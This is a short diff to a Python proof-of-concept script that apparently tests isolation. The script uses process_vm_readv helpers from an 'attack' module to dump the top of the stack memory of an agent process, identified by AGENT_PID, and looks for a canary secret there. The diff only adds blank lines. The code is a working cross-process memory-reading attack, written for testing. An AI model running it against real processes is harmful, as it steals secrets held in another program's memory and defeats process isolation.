@@ -3,6 +3,8 @@
 # proof: canary
 # source: process_vm_readv
 import os
+
 from attack import stack_of, vm_read
+
 start, end = stack_of(os.environ["AGENT_PID"])
 print(vm_read(int(os.environ["AGENT_PID"]), end - 16384, 16384).decode(errors="replace").replace("\0", "\n"))
